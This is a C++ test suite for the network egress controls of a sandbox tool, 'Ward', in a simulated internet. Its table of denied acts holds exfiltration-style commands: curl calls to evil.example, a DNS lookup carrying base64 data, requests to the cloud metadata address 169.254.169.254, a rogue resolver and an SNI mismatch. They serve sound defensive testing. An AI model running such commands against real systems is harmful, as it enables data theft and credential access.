// Copyright 2026 The Ward Authors. SPDX-License-Identifier: Apache-2.0
//
// What a command reaches outside, in an internet of the test's own: every client its own way to an
// allowed host, and nothing else.
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/wait.h>

#include <filesystem>
#include <fstream>

#include "support/internet.h"
#include "support/needs.h"
#include "support/paths.h"
#include "support/sandbox.h"

namespace ward::test {
namespace {

using nlohmann::json;
using testing::HasSubstr;
using testing::Not;

// Of the run with the number $run, as a shell does it.
const std::string kFindGateway =
    "gateway=$(cat /proc/$run/task/$run/children | tr ' ' '\\n' | while read p; do [ \"$(cat "
    "/proc/$p/comm)\" = ward-gateway ] && echo $p; done)";
const std::string kKillGateway =
    kFindGateway + "; kill -9 $gateway; while kill -0 $gateway 2>/dev/null; do :; done";

// As words of a shell.
std::string quoted(const std::vector<std::string>& words) {
  std::string text;
  for (const std::string& word : words) {
    text += " '";
    for (const char c : word) text += c == '\'' ? std::string("'\\''") : std::string(1, c);
    text += "'";
  }
  return text;
}

json denials(const SandboxResult& result) {
  return result.report.value("/denials/list"_json_pointer, json::array());
}

class NetworkTest : public InternetTest {
 protected:
  void SetUp() override {
    InternetTest::SetUp();
    if (IsSkipped()) return;
    allow("www.site.example");
  }

  // The policy of the runs to come.
  void allow(const std::string& hosts, const std::string& more = "") {
    box_.set_policy("version: 1\nextends: workspace\nnetwork:\n  allow: [" + hosts + "]\n" + more);
  }

  // What of the lab's log is new since `before`.
  std::string log_after(const std::string& before) const {
    return lab_->log().substr(before.size());
  }

  // `ward run` of this script, for a script around it.
  std::string ward_run(const std::string& script) const {
    return ward_binary() + quoted(box_.arguments({"/bin/sh", "-c", script}));
  }
  RunResult ward(const std::vector<std::string>& words) const {
    return run_ward(words, box_.process_options());
  }
  json egress() const {
    const RunResult result = ward({"audit", "egress", "--json"});
    EXPECT_EQ(result.status, 0) << result.err;
    return json::parse(result.out, nullptr, false);
  }
};

TEST_F(NetworkTest, ProgramsReachAnAllowedHostThroughTheProxyAndWithoutOne) {
  const char* ways[] = {
      "curl -sS http://www.site.example/",
      "curl -sS https://www.site.example/",
      "curl -sS --noproxy '*' http://www.site.example/",
      "curl -sS --noproxy '*' https://www.site.example/",
      "curl -sS --noproxy '*' -4 https://www.site.example/",
      "curl -sS --noproxy '*' -6 https://www.site.example/",
      "curl -sS -x socks5h://198.18.0.1:1080 https://www.site.example/",
      "python3 -c 'import urllib.request as u; "
      "print(u.urlopen(\"https://www.site.example/\").read())'",
  };
  for (const char* way : ways) {
    const SandboxResult result = box_.run(way);
    EXPECT_EQ(result.status, 0) << way << "\n" << result.err;
    EXPECT_THAT(result.out, HasSubstr("www.site.example")) << way;
    EXPECT_EQ(denials(result).size(), 0U) << way << denials(result);
  }
  const json records = egress();
  ASSERT_GE(records.size(), std::size(ways));
  for (const json& record : records) {
    if (record["payload"]["what"] != "connection") continue;
    EXPECT_EQ(record["payload"]["verdict"], "allowed") << record;
    EXPECT_EQ(record["payload"]["host"], "www.site.example") << record;
    EXPECT_GT(record["payload"]["bytes_down"], 0) << record;
    EXPECT_THAT(record["payload"]["rule"].get<std::string>(), HasSubstr("allow www.site.example"));
  }
}

TEST_F(NetworkTest, WgetReachesAnAllowedHost) {
  NEEDS(tool("wget"));
  EXPECT_THAT(box_.run("wget -q -O - https://www.site.example/").out, HasSubstr("hello"));
  EXPECT_THAT(box_.run("wget -q --no-proxy -O - https://www.site.example/").out,
              HasSubstr("hello"));
}

TEST_F(NetworkTest, NodeReachesAnAllowedHost) {
  NEEDS(tool("node"));
  const std::string certificate = box_.workspace_file("ca.pem", read_text(lab_->ca()));
  box_.workspace_file("get.js",
                      "require('https').get('https://www.site.example/', {ca: "
                      "require('fs').readFileSync('ca.pem')}, r => r.on('data', d => "
                      "console.log(String(d))))");
  EXPECT_THAT(box_.run("node get.js").out, HasSubstr("hello from https www.site.example"));
}

TEST_F(NetworkTest, AJavaProgramReachesAnAllowedHost) {
  NEEDS(tool("java"));
  box_.workspace_file("Get.java",
                      "import java.net.*;\npublic class Get { public static void main(String[] a) "
                      "throws Exception { System.out.print(new String(new "
                      "URL(a[0]).openStream().readAllBytes())); } }");
  const SandboxResult result =
      box_.run("java Get.java http://www.site.example/; java Get.java http://evil.example/");
  EXPECT_THAT(result.out, HasSubstr("hello from http www.site.example")) << result.err;
  EXPECT_THAT(result.out, Not(HasSubstr("evil"))) << result.out;
  EXPECT_THAT(lab_->log(), Not(HasSubstr("evil")));
}

TEST_F(NetworkTest, AStaticProgramThatKnowsNoProxyReachesWhatItsRuleNames) {
  NEEDS(tool("socat"));
  allow("\"git.site.example:22\", \"45.66.77.66:7777\", \"[2a0e:66::/112]:7777\"");
  const SandboxResult result = box_.run(
      "echo hello | socat -t 5 - TCP:git.site.example:22; echo again | socat -t 5 - "
      "TCP:45.66.77.66:7777; echo six | socat -t 5 - 'TCP6:[2a0e:66::10]:7777'; "
      "for i in 1 2 3; do echo more | socat -t 5 - TCP:45.66.77.66:7777; done");
  EXPECT_EQ(result.status, 0) << result.err;
  for (const char* heard : {"SSH-2.0-lab", "hello", "again", "six", "more"})
    EXPECT_THAT(result.out, HasSubstr(heard));
  EXPECT_EQ(denials(result).size(), 0U) << denials(result);
}

// One act, what it leaves in the lab's log where it succeeds, and what the report says of it.
struct Act {
  const char* what;
  const char* script;
  const char* mark;
  const char* target;  // of the denial
};

void PrintTo(const Act& act, std::ostream* out) { *out << act.what; }

class DeniedAct : public NetworkTest, public testing::WithParamInterface<Act> {};

TEST_P(DeniedAct, ReachesNothingAndIsToldWhileItWorksOutside) {
  NEEDS(tool("socat"));
  allow(
      "www.site.example, private.site.example, private6.site.example, meta.site.example, "
      "loop.site.example, zero.site.example, mapped.site.example, nat64.site.example, "
      "host.site.example, rebind.site.example");
  const Act& act = GetParam();
  const std::string before = lab_->log();
  const SandboxResult result = box_.run(act.script);
  EXPECT_THAT(log_after(before), Not(HasSubstr(act.mark))) << result.out << result.err;
  if (act.target[0] != '\0') {
    EXPECT_THAT(denials(result).dump(), HasSubstr(act.target)) << result.err;
    EXPECT_THAT(egress().dump(), HasSubstr("\"denied\""));
  }
  const std::string inside = lab_->log();
  box_.outside(std::string("unset http_proxy; ") + act.script);
  EXPECT_THAT(log_after(inside), HasSubstr(act.mark)) << "the control";
}

constexpr Act kActs[] = {
    {"another_name_through_the_proxy", "curl -sS -m 5 http://evil.example/a1", "/a1",
     "\"evil.example:80\""},
    {"another_name_by_connect", "curl -sS -m 5 https://evil.example/a2", "/a2",
     "\"evil.example:443\""},
    {"another_name_without_a_proxy", "curl -sS -m 5 --noproxy '*' http://evil.example/a3",
     "dns evil.example", "\"evil.example\""},
    {"a_name_that_carries_data", "getent ahostsv4 c2VjcmV0.evil.example", "dns c2vjcmv0",
     "c2vjcmv0.evil.example"},
    {"an_address", "curl -sS -m 5 --noproxy '*' http://45.66.77.66/a4", "/a4",
     "\"45.66.77.66:80\""},
    {"an_address_of_ipv6", "curl -sS -m 5 --noproxy '*' 'http://[2a0e:66::16]/a5'", "/a5",
     "\"[2a0e:66::16]:80\""},
    {"an_address_through_the_proxy", "curl -sS -m 5 http://45.66.77.66/a6", "/a6",
     "\"45.66.77.66:80\""},
    {"the_address_of_an_allowed_name", "curl -sS -m 5 --noproxy '*' http://45.66.77.10/a7", "/a7",
     "\"45.66.77.10:80\""},
    {"another_port", "curl -sS -m 5 --noproxy '*' http://www.site.example:8080/a8", "/a8",
     "\"www.site.example:8080\""},
    {"another_port_through_the_proxy", "curl -sS -m 5 http://www.site.example:8080/a9", "/a9",
     "\"www.site.example:8080\""},
    {"a_private_address_behind_a_name", "curl -sS -m 5 http://private.site.example/a10", "/a10",
     "private.site.example:80"},
    {"a_private_address_without_a_proxy",
     "curl -sS -m 5 --noproxy '*' http://private.site.example/a11", "/a11",
     "private.site.example:80"},
    {"a_private_address_of_ipv6", "curl -sS -m 5 http://private6.site.example/a12", "/a12",
     "private6.site.example:80"},
    {"metadata_behind_a_name", "curl -sS -m 5 http://meta.site.example/a13", "/a13",
     "meta.site.example:80"},
    {"metadata_by_its_address", "curl -sS -m 5 http://169.254.169.254/a14", "/a14",
     "169.254.169.254:80"},
    {"a_redirect_to_another_host",
     "curl -sSL -m 5 'http://www.site.example/redirect?to=http://evil.example/a15'",
     "http GET evil.example /a15", "evil.example:80"},
    {"a_resolver_of_its_own_choice",
     "python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
     "s.connect((\"45.66.77.66\", 53)); s.send(b\"question\"); s.recv(9)'",
     "udp 53", "45.66.77.66:53"},
    {"datagrams_to_an_allowed_host",
     "python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
     "s.connect((\"www.site.example\", 443)); s.send(b\"quic\"); s.recv(9)'",
     "udp 443", ""},
    {"another_name_in_the_handshake",
     "openssl s_client -connect www.site.example:443 -servername other.site.example < /dev/null",
     "sni other.site.example", "www.site.example"},
};

INSTANTIATE_TEST_SUITE_P(Acts, DeniedAct, testing::ValuesIn(kActs),
                         [](const auto& instance) { return std::string(instance.param.what); });

TEST_F(NetworkTest, ARefusalSaysWhatPolicyExplainSays) {
  box_.set_policy("");
  box_.workspace_file("policy.yaml",
                      "version: 1\nextends: workspace\nnetwork: {allow: [www.site.example], deny: "
                      "[bad.site.example]}\n");
  box_.options = {"--policy", "policy.yaml"};
  for (const std::string host : {"evil.example", "bad.site.example"}) {
    const SandboxResult refused =
        box_.run("curl -sS -o body -w '%{http_code}' http://" + host + "/; cat body >&2");
    EXPECT_EQ(refused.out, "403") << refused.err;
    const RunResult explained =
        ward({"policy", "explain", "--policy", "policy.yaml", host + ":80"});
    EXPECT_EQ(refused.err, explained.out);
  }
}

TEST_F(NetworkTest, TheHostsLoopbackIsReachedThroughNoProxy) {
  allow("loop.site.example");
  const std::string server =
      "python3 -m http.server --bind 127.0.0.1 8099 >/dev/null 2>&1 & server=$!; "
      "until curl -sf -o /dev/null http://127.0.0.1:8099/; do :; done; ";
  const SandboxResult result = box_.run(
      "for to in http://127.0.0.1:8099 http://localhost:8099 http://loop.site.example "
      "http://0.0.0.0:8099 'http://[::ffff:127.0.0.1]:8099' http://2130706433:8099; do "
      "curl -s -o /dev/null -m 5 -x http://198.18.0.1:3128 --noproxy '' -w '%{http_code}\\n' "
      "\"$to/\"; done");
  EXPECT_EQ(result.out, "403\n403\n403\n403\n403\n403\n") << result.err;
  EXPECT_EQ(box_.outside(server + "kill $server").status, 0) << "the control";
}

TEST_F(NetworkTest, ItsOwnLoopbackStaysItsOwn) {
  const SandboxResult result = box_.run(
      "for at in 127.0.0.1:3128 127.0.0.1:1080 127.0.0.1:8053 '[::1]:3128'; do "
      "python3 -c 'import socket, sys; host, port = sys.argv[1].rsplit(\":\", 1); "
      "socket.create_server((host.strip(\"[]\"), int(port)), family=socket.AF_INET6 if \"[\" in "
      "host else socket.AF_INET); print(\"free\")' $at; done; python3 -m http.server --bind "
      "127.0.0.1 8000 >/dev/null 2>&1 & until curl -sf http://localhost:8000/ -o /dev/null; do "
      ":; done; echo served");
  EXPECT_EQ(result.out, "free\nfree\nfree\nfree\nserved\n") << result.err;
}

TEST_F(NetworkTest, APortOfTheHostIsLetIn) {
  NEEDS(tool("socat"));
  box_.options = {"--host-port", "5432"};
  const std::string script = "for to in 127.0.0.1 localhost; do socat -u -T 5 TCP:$to:5432 -; done";
  const std::string serve =
      "socat -U TCP-LISTEN:5432,bind=127.0.0.1,fork,reuseaddr EXEC:'echo rows' & server=$!; "
      "until socat -u /dev/null TCP:127.0.0.1:5432; do :; done; ";
  const RunResult result = box_.outside(serve + ward_run(script) + "; kill $server");
  EXPECT_EQ(result.out, "rows\nrows\n") << result.err;
  box_.options.clear();
  EXPECT_THAT(box_.run(script).err, HasSubstr("refused"));
}

TEST_F(NetworkTest, APublishedPortIsServedOnTheHostsLoopback) {
  box_.options = {"-p", "3000", "-p", "3001"};
  const std::string served =
      "python3 -m http.server --bind 127.0.0.1 3000 >/dev/null 2>&1 & python3 -m http.server "
      "--bind ::1 3001 >/dev/null 2>&1 & while [ ! -e stop ]; do read x < wake; done";
  const RunResult result = box_.outside(
      "mkfifo wake; " + ward_run(served) +
      " & run=$!; echo inside > page; for to in 127.0.0.1:3000 '[::1]:3000' 127.0.0.1:3001; do "
      "until curl -sf http://$to/page; do :; done; done; curl -s http://10.99.0.2:3000/page || "
      "echo refused; touch stop; echo > wake; wait $run");
  EXPECT_EQ(result.out, "inside\ninside\ninside\nrefused\n") << result.err;
}

TEST_F(NetworkTest, APublishedPortThatIsTakenIsRefusedAtTheStart) {
  box_.options = {"--publish", "3000"};
  const RunResult result = box_.outside(
      "python3 -m http.server --bind 127.0.0.1 3000 >/dev/null 2>&1 & server=$!; until curl -sf "
      "-o /dev/null http://127.0.0.1:3000/; do :; done; " +
      ward_run("echo ran") + "; echo $?; kill $server");
  EXPECT_EQ(result.out, "125\n");
  EXPECT_THAT(result.err, HasSubstr("publish port 3000"));
}

TEST_F(NetworkTest, TheRulesOfARunThatGoesOnAreChanged) {
  const std::string policy = box_.home_file(
      "rules.yaml", "version: 1\nextends: workspace\nnetwork: {allow: [v4.site.example]}\n");
  box_.set_policy("");
  box_.options = {"--policy", policy};
  const char* get = "curl -s -o /dev/null -w '%{http_code}\\n' http://www.site.example/";
  const std::string script = std::string(get) + "; echo > asked; read x < go; " + get +
                             "; echo > asked; read x < go; " + get;
  const std::string ward = ward_binary();
  const RunResult result = box_.outside(
      "mkfifo asked go; " + ward_run(script) + " & run=$!; read x < asked; id=$(" + ward +
      " audit show --json | python3 -c 'import json, sys; "
      "print(json.load(sys.stdin)[-1][\"run\"])'); sed -i s/v4/www/ '" +
      policy + "'; " + ward +
      " policy reload $id >&2; echo $?; echo > go; read x < asked; "
      "echo 'network: {allow: [' >> '" +
      policy + "'; " + ward + " policy reload $id; echo $?; echo > go; wait $run");
  EXPECT_EQ(result.out, "403\n0\n200\n125\n200\n") << result.err;
  EXPECT_THAT(result.err, HasSubstr("rules.yaml"));
  EXPECT_THAT(this->ward({"audit", "show"}).out, HasSubstr("policy-reloaded"));
}

TEST_F(NetworkTest, AReloadOfARunThatIsOverSaysSo) {
  ASSERT_EQ(box_.run("true").status, 0);
  const RunResult result = ward({"policy", "reload", "01m8npcy314yt7hrx43vse07jw"});
  EXPECT_EQ(result.status, 125);
  EXPECT_THAT(result.err, HasSubstr("no run 01m8npcy314yt7hrx43vse07jw"));
}

TEST_F(NetworkTest, AKilledGatewayLeavesTheRunWithoutNetworkAndTheNextRunWorks) {
  const std::string get = "curl -s -m 5 http://www.site.example/";
  const RunResult result = box_.outside(
      "mkfifo asked go; " +
      ward_run(get + "; echo > asked; read x < go; " + get +
               " || echo closed; curl -s -m 5 --noproxy '*' http://www.site.example/ || echo "
               "closed") +
      " & run=$!; read x < asked; " + kKillGateway + "; echo > go; wait $run; echo $?");
  EXPECT_EQ(result.out, "hello from http www.site.example\nclosed\nclosed\n0\n") << result.err;
  std::ifstream report(box_.result_file());
  EXPECT_THAT(json::parse(report)["warnings"].dump(), HasSubstr("nothing reaches the network"));
  EXPECT_THAT(box_.run(get).out, HasSubstr("hello"));
}

TEST_F(NetworkTest, AKilledWardTakesItsGatewayAlong) {
  const RunResult result = box_.outside(
      "mkfifo asked; " +
      ward_run("curl -s -o page http://www.site.example/; echo > asked; exec cat /dev/zero") +
      " > /dev/null & run=$!; read x < asked; " + kFindGateway +
      "; test -n \"$gateway\" && kill -9 $run; while kill -0 $gateway 2>/dev/null; do :; done; "
      "cat page");
  EXPECT_THAT(result.out, HasSubstr("hello"));
  EXPECT_FALSE(result.hung);
}

TEST_F(NetworkTest, EveryProfileReachesWhatIsAllowed) {
  for (const std::string profile : {"locked", "read-only"}) {
    box_.set_policy("version: 1\nextends: " + profile + "\nnetwork: {allow: [www.site.example]}\n");
    const SandboxResult result = box_.run(
        "grep -c 198.18.0.1 /etc/resolv.conf; curl -sS --noproxy '*' https://www.site.example/");
    EXPECT_EQ(result.out, "1\nhello from https www.site.example\n") << profile << result.err;
  }
}

TEST_F(NetworkTest, WhatALocalhostRuleMeansIsTheHosts) {
  allow("\"localhost:5432\"");
  const RunResult result = box_.outside(
      "socat -U TCP-LISTEN:5432,bind=127.0.0.1,fork,reuseaddr EXEC:'echo rows' & server=$!; until "
      "socat -u /dev/null TCP:127.0.0.1:5432; do :; done; " +
      ward_run("socat -u -T 5 TCP:localhost:5432 -") + "; kill $server");
  EXPECT_EQ(result.out, "rows\n") << result.err;
}

// Some machines' own resolvers answer with addresses of the block that the gateway has inside.
TEST_F(NetworkTest, ANameMayLeadToAnAddressThatIsTheGatewaysInside) {
  allow("fake.site.example, \"198.18.1.0:80\"");
  EXPECT_THAT(box_.run("curl -sS --noproxy '*' http://fake.site.example/").out,
              HasSubstr("hello from http fake.site.example"));
  EXPECT_THAT(box_.run("curl -sS http://fake.site.example/").out, HasSubstr("hello"));
}

// Holds a thousand connections and waits for the end of each.
constexpr const char* kHoldMany = R"(
import resource, select, socket
resource.setrlimit(resource.RLIMIT_NOFILE, (2048, 4096))
held = []
for _ in range(1000):
    s = socket.create_connection(("git.site.example", 22))
    assert s.recv(11) == b"SSH-2.0-lab"
    held.append(s)
open("asked", "w").write("\n")
ended = 0
for s in held:
    try:
        while s.recv(100): pass
        ended += 1
    except ConnectionError:
        ended += 1
print(ended, "ended")
try:
    socket.create_connection(("git.site.example", 22))
    print("connected")
except OSError as error:
    print("closed")
)";

TEST_F(NetworkTest, AThousandConnectionsFailWithTheirGateway) {
  allow("\"git.site.example:22\"");
  box_.workspace_file("hold.py", kHoldMany);
  const RunResult result =
      box_.outside("mkfifo asked; " + ward_run("python3 hold.py") + " & run=$!; read x < asked; " +
                   kKillGateway + "; wait $run; echo $?");
  EXPECT_EQ(result.out, "1000 ended\nclosed\n0\n") << result.err;
  EXPECT_THAT(box_.run("echo | socat -t 5 - TCP:git.site.example:22").out, HasSubstr("lab"));
}

TEST_F(NetworkTest, SshReachesTheHostThatItsRuleNames) {
  NEEDS(tool("ssh"));
  allow("\"git.site.example:22\"");
  const SandboxResult result =
      box_.run("ssh -v -o BatchMode=yes git.site.example true; ssh -o BatchMode=yes evil.example");
  EXPECT_THAT(result.err, HasSubstr("remote software version lab"));
  EXPECT_THAT(result.err, HasSubstr("Could not resolve hostname evil.example"));
  EXPECT_THAT(denials(result).dump(), HasSubstr("evil.example"));
}

TEST_F(NetworkTest, TheLoopbackOfAnotherSandboxIsNotReached) {
  const std::string serve =
      "python3 -m http.server --bind 0.0.0.0 8000 >/dev/null 2>&1 & until curl -sf -o /dev/null "
      "http://127.0.0.1:8000/; do :; done; echo > asked; read x < go";
  const RunResult result =
      box_.outside("mkfifo asked go; " + ward_run(serve) + " & run=$!; read x < asked; " +
                   ward_run("for at in 127.0.0.1 198.18.0.1 [::1]; do curl -s -m 5 --noproxy '*' "
                            "http://$at:8000/ || echo refused; done") +
                   "; echo > go; wait $run");
  EXPECT_EQ(result.out, "refused\nrefused\nrefused\n") << result.err;
}

TEST_F(NetworkTest, DatagramsThatGoNowhereAreCounted) {
  const SandboxResult result = box_.run(
      "python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
      "for i in range(3):\n  try: s.sendto(b\"x\", (\"45.66.77.66\", 53))\n  except OSError: "
      "pass'");
  EXPECT_THAT(denials(result).dump(), HasSubstr("3 datagrams")) << result.err;
  EXPECT_THAT(lab_->log(), Not(HasSubstr("udp")));
}

TEST_F(NetworkTest, WithoutAnAllowedHostThereIsNoGatewayAndNoResolver) {
  box_.set_policy("version: 1\nextends: workspace\n");
  const SandboxResult result = box_.run(
      "env | grep -ci proxy; cat /etc/resolv.conf; getent hosts www.site.example; curl -sS -m 5 "
      "http://45.66.77.10/ 2>&1");
  EXPECT_EQ(result.out.substr(0, 2), "0\n");
  EXPECT_THAT(result.out, HasSubstr("nameserver 45.66.77.53"));
  EXPECT_THAT(denials(result).dump(), HasSubstr("45.66.77.10:80"));
  EXPECT_FALSE(result.report.contains("egress"));
  EXPECT_EQ(lab_->log(), "");
}

}  // namespace
}  // namespace ward::test
